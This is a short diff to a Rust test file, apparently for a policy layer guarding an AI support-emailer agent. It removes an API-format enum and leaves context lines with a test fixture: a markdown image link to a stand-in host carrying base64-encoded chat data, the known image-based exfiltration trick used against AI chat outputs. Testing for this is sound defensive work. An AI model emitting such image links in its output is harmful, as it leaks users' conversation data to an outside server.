@@ -23,23 +23,6 @@ const AGENT_KEY: &str = "tp-steps-agent-key";
 const EXFIL_IMAGE: &str = "![x](https://evil.example/p.png?d=U2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA==)";
 const EXFIL_DATA: &str = "U2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA";
 
-#[derive(Clone, Copy, Debug, PartialEq)]
-enum Format {
-    Chat,
-    Anthropic,
-    Responses,
-}
-
-const FORMATS: [Format; 3] = [Format::Chat, Format::Anthropic, Format::Responses];
-
-fn path(f: Format) -> &'static str {
-    match f {
-        Format::Chat => "/v1/chat/completions",
-        Format::Anthropic => "/v1/messages",
-        Format::Responses => "/v1/responses",
-    }
-}
-
 /// The support emailer's real Compiled Policy for this test's agent, with
 /// `edit` applied to its JSON.
 fn policy(edit: impl FnOnce(&mut Value)) -> CompiledPolicy {
